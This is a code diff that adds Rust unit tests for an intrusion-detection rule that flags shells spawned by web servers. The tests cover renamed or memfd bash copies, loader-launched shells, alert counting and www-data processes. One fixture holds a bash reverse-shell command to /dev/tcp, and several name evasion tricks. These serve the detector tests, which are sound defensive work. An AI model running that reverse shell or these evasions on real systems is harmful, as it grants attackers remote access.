@@ -81,7 +81,7 @@ common_section!(WebserverShell, port: false, destination: false);
 #[cfg(test)]
 mod tests {
     use crate::{
-        record::{EventType, MatchKind, RuleId, Severity, WebServerVia},
+        record::{EventType, MatchKind, ProgramIdentity, RuleId, Severity, WebServerVia},
         testing::{
             T0, ancestor, connect, detector, detector_with, event, fpm_master, fpm_worker, process,
             systemd, tracked,
@@ -275,5 +275,120 @@ mod tests {
         ev.filename = Some("/bin/sh".to_owned());
         ev.web_server = Some(tracked(210, "/usr/bin/dash", Some("/bin/sh"), &["sh"]));
         assert!(d.on_event(&ev, 0).is_empty());
+    }
+
+    fn shell_exec(pid: u32, exe: &str, argv: &[&str]) -> crate::record::EventRecord {
+        event(
+            EventType::Exec,
+            T0,
+            process(pid, exe, "x", argv),
+            vec![fpm_worker(), fpm_master(), systemd()],
+        )
+    }
+
+    #[test]
+    fn shells_known_by_content_inode_and_loader() {
+        let mut d = detector();
+        // A copy of bash named /tmp/.x: the daemon recorded its content match.
+        let mut ev = shell_exec(7000, "/tmp/.x", &["/tmp/.x", "-c", "id"]);
+        assert!(
+            d.on_event(&ev, 0).is_empty(),
+            "by path alone it is no shell"
+        );
+        ev.program = Some(ProgramIdentity {
+            shell: Some(MatchKind::Content),
+            same_as: Some("/usr/bin/bash".to_owned()),
+            ..ProgramIdentity::default()
+        });
+        let a = &d.on_event(&ev, 0)[0];
+        assert_eq!(
+            a.title,
+            "Shell spawned by web server: /tmp/.x = /usr/bin/bash (parent php-fpm8.2)"
+        );
+        assert_eq!(a.shell_match, Some(MatchKind::Content));
+        assert_eq!(a.program.as_ref().unwrap().shell, Some(MatchKind::Content));
+
+        // A memfd copy, by inode.
+        let mut ev = shell_exec(7001, "/memfd:x (deleted)", &["sh", "-c", "id"]);
+        ev.program = Some(ProgramIdentity {
+            shell: Some(MatchKind::Inode),
+            same_as: Some("/usr/bin/dash".to_owned()),
+            ..ProgramIdentity::default()
+        });
+        assert_eq!(d.on_event(&ev, 0)[0].shell_match, Some(MatchKind::Inode));
+
+        // The loader running bash: judged from argv even without a recorded verdict.
+        let ev = shell_exec(
+            7002,
+            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+            &["/lib64/ld-linux-x86-64.so.2", "/bin/bash", "-c", "id"],
+        );
+        let a = &d.on_event(&ev, 0)[0];
+        assert_eq!(a.shell_match, Some(MatchKind::Loader));
+        assert_eq!(
+            a.title,
+            "Shell spawned by web server: /bin/bash via /usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 (parent php-fpm8.2)"
+        );
+        // The loader running something else is not a shell.
+        let ev = shell_exec(
+            7003,
+            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+            &["ld.so", "/usr/bin/id"],
+        );
+        assert!(d.on_event(&ev, 0).is_empty());
+    }
+
+    #[test]
+    fn every_command_alerts_and_repeats_are_counted() {
+        let mut d = detector();
+        let id = shell_exec(7100, "/usr/bin/dash", &["sh", "-c", "id"]);
+        let rev = shell_exec(
+            7101,
+            "/usr/bin/dash",
+            &["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"],
+        );
+        assert_eq!(d.on_event(&id, 0).len(), 1);
+        assert_eq!(
+            d.on_event(&rev, 0).len(),
+            1,
+            "a different command is an alert"
+        );
+        assert!(d.on_event(&id, 0).is_empty(), "the same command is counted");
+        let mut later = shell_exec(7102, "/usr/bin/dash", &["sh", "-c", "id"]);
+        later.time = "2026-11-23T06:00:01.000000000Z".to_owned();
+        let a = d.on_event(&later, 0);
+        assert_eq!(a[0].suppressed, 1);
+    }
+
+    #[test]
+    fn web_server_users_without_lineage() {
+        let mut d = detector();
+        // An orphaned backdoor's shell: no web server in its lineage, but it runs as www-data.
+        let mut p = process(7200, "/usr/bin/dash", "sh", &["sh", "-c", "id"]);
+        p.uid = 33;
+        p.user = Some("www-data".to_owned());
+        let ev = event(EventType::Exec, T0, p.clone(), vec![systemd()]);
+        let a = &d.on_event(&ev, 0)[0];
+        assert_eq!(
+            a.title,
+            "Shell spawned by web server: /usr/bin/dash (as www-data)"
+        );
+        assert_eq!(a.web_server_via, Some(WebServerVia::User));
+        assert!(
+            a.dedup
+                .starts_with("webserver_shell:user:www-data:/usr/bin/dash:")
+        );
+        // Another user: nothing.
+        p.user = Some("alice".to_owned());
+        let ev = event(EventType::Exec, T0, p, vec![systemd()]);
+        assert!(d.on_event(&ev, 0).is_empty());
+        // Exceptions as usual, and the list is the policy's.
+        let mut d = detector_with("web_server_users = []\n");
+        let mut p = process(7201, "/usr/bin/dash", "sh", &["sh"]);
+        p.user = Some("www-data".to_owned());
+        assert!(
+            d.on_event(&event(EventType::Exec, T0, p, vec![systemd()]), 0)
+                .is_empty()
+        );
     }
 }
